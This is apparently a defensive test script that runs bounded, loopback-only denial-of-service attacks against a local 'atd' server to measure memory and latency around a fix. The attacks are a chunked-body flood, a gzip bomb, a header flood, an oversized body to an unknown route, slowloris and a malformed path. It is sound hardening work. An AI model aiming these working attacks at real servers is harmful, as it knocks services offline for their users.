#!/usr/bin/env python3
"""Attacks on a running atd, one per name, each printing status, atd's RSS and latency.

Usage: atd_attacks.py PORT PID ATTACK [--token T] [--space S] [--mib N]
Loopback only; every socket has a timeout; every loop is bounded. Used to measure issue 9's
attacks before and after (see the report); the regression tests are tests/api/HttpLimitsTest.
"""
import argparse, gzip, io, socket, sys, time, zlib

def rss_kib(pid, field="VmRSS:"):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith(field):
                    return int(line.split()[1])
    except FileNotFoundError:
        return -1
    return -1

def connect(port, timeout=30):
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    return s

def read_reply(s, limit=1 << 20):
    data = b""
    try:
        while len(data) < limit:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
            if b"\r\n\r\n" in data:
                head, _, body = data.partition(b"\r\n\r\n")
                for line in head.split(b"\r\n"):
                    if line.lower().startswith(b"content-length:"):
                        if len(body) >= int(line.split(b":")[1]):
                            return data
    except (socket.timeout, ConnectionResetError, BrokenPipeError):
        pass
    return data

def status_of(reply):
    try:
        return int(reply.split(b" ", 2)[1])
    except Exception:
        return None

def send_all(s, data):
    try:
        s.sendall(data)
        return True
    except (BrokenPipeError, ConnectionResetError, socket.timeout):
        return False

def alive(port):
    try:
        s = connect(port, 5)
        s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        return status_of(read_reply(s)) == 200
    except OSError:
        return False

def chunked_no_token(a):
    s = connect(a.port)
    send_all(s, b"POST /v3/sessions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
                b"Content-Type: application/json\r\n\r\n")
    chunk = b"%x\r\n" % (1 << 20) + b"x" * (1 << 20) + b"\r\n"
    sent, peak = 0, 0
    s.settimeout(2)
    while sent < a.mib:
        if not send_all(s, chunk):
            break
        sent += 1
        if sent % 64 == 0:
            peak = max(peak, rss_kib(a.pid))
    peak = max(peak, rss_kib(a.pid))
    send_all(s, b"0\r\n\r\n")
    return status_of(read_reply(s)), f"sent {sent} MiB, peak RSS {peak} KiB"

def gzip_bomb(a, path="/v3/events", method="POST"):
    # 1 GiB of zeros gzips to ~1 MB
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = b"\0" * (1 << 20)
    body = b"".join(z.compress(block) for _ in range(a.mib)) + z.flush()
    s = connect(a.port)
    head = (f"{method} {path} HTTP/1.1\r\nHost: x\r\nContent-Encoding: gzip\r\n"
            f"Content-Type: application/x-ndjson\r\nContent-Length: {len(body)}\r\n"
            f"X-Auth-Token: bearer {a.token}\r\nX-Auth-Project-Id: {a.space}\r\n\r\n").encode()
    send_all(s, head + body)
    peak = 0
    reply = read_reply(s)
    peak = max(peak, rss_kib(a.pid))
    return status_of(reply), f"{len(body)} B gzip -> {a.mib} MiB, RSS after {peak} KiB, " + \
        reply.split(b"\r\n\r\n", 1)[-1][:160].decode(errors="replace")

def header_flood(a):
    s = connect(a.port)
    send_all(s, b"GET /v3/spaces HTTP/1.1\r\nHost: x\r\n")
    line = b"X-Pad: " + b"a" * 4089 + b"\r\n"
    sent, peak = 0, 0
    s.settimeout(2)
    while sent < a.mib * 256:
        if not send_all(s, line):
            break
        sent += 1
        if sent % 4096 == 0:
            peak = max(peak, rss_kib(a.pid))
    peak = max(peak, rss_kib(a.pid))
    return status_of(read_reply(s)), f"sent {sent * 4096 >> 10} KiB of headers, peak RSS {peak} KiB"

def unknown_route_body(a):
    s = connect(a.port)
    n = a.mib << 20
    send_all(s, f"POST /nowhere HTTP/1.1\r\nHost: x\r\nContent-Length: {n}\r\n\r\n".encode())
    s.settimeout(2)
    sent, block = 0, b"x" * (1 << 20)
    while sent < a.mib and send_all(s, block):
        sent += 1
    return status_of(read_reply(s)), f"sent {sent} MiB, RSS {rss_kib(a.pid)} KiB"

def slowloris(a):
    conns = []
    for _ in range(200):
        try:
            s = socket.socket(); s.settimeout(2); s.bind(("127.0.0.2", 0))
            s.connect(("127.0.0.1", a.port)); s.sendall(b"GET /v3/spaces HTTP/1.1\r\nX-Slow: ")
            conns.append(s)
        except OSError:
            pass
    time.sleep(1)
    lat, failed = [], 0
    t_end = time.monotonic() + 30
    last_drip = time.monotonic()
    for i in range(20):
        if time.monotonic() > t_end:
            break
        if time.monotonic() - last_drip > 2:
            for c in conns:
                try: c.send(b"a")
                except OSError: pass
            last_drip = time.monotonic()
        t0 = time.monotonic()
        try:
            s = connect(a.port, 10)
            s.sendall(b"GET /v3/spaces HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            st = status_of(read_reply(s))
            if st is None: failed += 1
        except OSError:
            failed += 1
        lat.append(time.monotonic() - t0)
    for c in conns: c.close()
    return None, f"{len(conns)} slow connections; 20 requests: {failed} unanswered, max latency {max(lat):.2f} s"

def bad_path(a):
    s = connect(a.port)
    send_all(s, b"GET /%FF HTTP/1.1\r\nHost: x\r\n\r\n")
    return status_of(read_reply(s)), ""

def main():
    p = argparse.ArgumentParser()
    p.add_argument("port", type=int); p.add_argument("pid", type=int); p.add_argument("attack")
    p.add_argument("--token", default=""); p.add_argument("--space", default="")
    p.add_argument("--mib", type=int, default=600)
    a = p.parse_args()
    idle = rss_kib(a.pid)
    t0 = time.monotonic()
    status, note = {"chunked-no-token": chunked_no_token, "gzip-bomb": gzip_bomb,
                    "header-flood": header_flood, "unknown-route-body": unknown_route_body,
                    "bad-path": bad_path, "slowloris": slowloris}[a.attack](a)
    dt = time.monotonic() - t0
    print(f"{a.attack}: status {status}, {dt:.2f} s, idle RSS {idle} KiB, now {rss_kib(a.pid)} KiB,"
          f" peak (VmHWM) {rss_kib(a.pid, 'VmHWM:')} KiB, alive {alive(a.port)}; {note}")

if __name__ == "__main__":
    main()
